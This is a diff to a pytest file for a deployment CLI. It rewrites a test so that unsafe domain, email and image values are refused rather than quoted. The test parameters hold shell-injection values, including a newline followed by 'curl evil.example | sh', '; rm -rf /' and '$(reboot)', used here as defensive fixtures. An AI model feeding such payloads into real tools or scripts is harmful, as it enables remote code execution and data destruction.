@@ -37,8 +37,21 @@ def test_the_provisioning_script_is_sound_and_rendered(tmp_path: Path) -> None:
     assert "apt-get install -y docker.io nginx certbot ufw" in text
 
 
-def test_values_that_would_break_the_script_are_quoted(tmp_path: Path) -> None:
-    made = aiserve("deploy", "vm", "--domain", "api.example.com", "--email", "a b@example.com; rm -rf /",
-                   "--image", "img")  # fmt: skip
-    assert made.returncode == 0
-    assert "EMAIL='a b@example.com; rm -rf /'" in made.stdout
+@pytest.mark.parametrize(
+    ("flag", "value"),
+    [
+        ("--domain", "api.example.com\ncurl evil.example | sh"),
+        ("--domain", "api.example.com; rm -rf /"),
+        ("--email", "a b@example.com; rm -rf /"),
+        ("--email", "ops@example.com\n"),
+        ("--image", "img $(reboot)"),
+    ],
+)
+def test_values_that_could_break_the_script_are_refused(flag: str, value: str) -> None:
+    values = {"--domain": "api.example.com", "--email": "ops@example.com", "--image": "user/aiserve:0.1.0",
+              flag: value}  # fmt: skip
+    made = aiserve("deploy", "vm", *(part for item in values.items() for part in item))
+    assert made.returncode == 1
+    assert made.stdout == ""  # no script at all
+    assert made.stderr.startswith(f"error: {flag} must be")
+    assert len(made.stderr.strip().splitlines()) == 1
